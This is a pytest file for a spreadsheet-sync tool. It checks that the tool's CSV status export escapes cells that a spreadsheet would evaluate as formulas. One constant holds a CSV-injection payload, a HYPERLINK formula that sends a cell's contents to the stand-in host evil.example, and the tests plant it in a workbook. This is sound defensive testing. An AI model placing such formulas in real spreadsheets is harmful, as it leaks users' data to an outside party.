"""``status --csv`` never hands a spreadsheet program a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from pathlib import Path

import pytest
from openpyxl import load_workbook

from sheets_sync.cli import main
from sheets_sync.service.office import init_office
from sheets_sync.service.rekap import csv_safe

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


@pytest.mark.parametrize("text", ["=1+1", "+62 811", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_text_that_a_spreadsheet_would_evaluate_gets_a_quote(text: str) -> None:
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Bidang Mutasi", "85,5", 12, -3, None, ""])
def test_other_cells_are_left_alone(value: object) -> None:
    assert csv_safe(value) == value


def _office_with_a_formula_name(tmp_path: Path) -> Path:
    cfg = init_office(tmp_path / "kantor", "bkpsdm")
    control = cfg.parent / "Kendali Data Kinerja.xlsx"
    wb = load_workbook(control)
    ws = wb["Bidang"]
    cell = ws.cell(row=2, column=2)
    cell.value = EVIL
    cell.data_type = "s"  # typed as text (a leading apostrophe in Excel), as a name copied from a web page is
    wb.save(control)
    return cfg


def test_status_csv_escapes_a_formula_typed_as_a_bidang_name(tmp_path: Path) -> None:
    cfg = _office_with_a_formula_name(tmp_path)
    out = io.StringIO()
    main(["-c", str(cfg), "status", "--period", "2025-TW1", "--csv"], out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[0]["Bidang"] == "'" + EVIL
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values() if v)


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice not installed")
def test_libreoffice_opens_the_csv_with_the_name_as_text(tmp_path: Path) -> None:
    cfg = _office_with_a_formula_name(tmp_path)
    out = io.StringIO()
    main(["-c", str(cfg), "status", "--period", "2025-TW1", "--csv"], out)
    src = tmp_path / "rekap.csv"
    src.write_text(out.getvalue(), encoding="utf-8")
    done = subprocess.run(["soffice", "--headless", "--convert-to", "xlsx", "--outdir", str(tmp_path), str(src)],
                          capture_output=True, text=True, timeout=120,
                          env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"})
    if not (tmp_path / "rekap.xlsx").exists():
        pytest.skip(f"LibreOffice Calc cannot open CSV here: {done.stderr.strip()[-200:]}")
    ws = load_workbook(tmp_path / "rekap.xlsx").active
    cell = ws.cell(row=2, column=3)
    assert cell.data_type == "s" and "HYPERLINK" in str(cell.value)
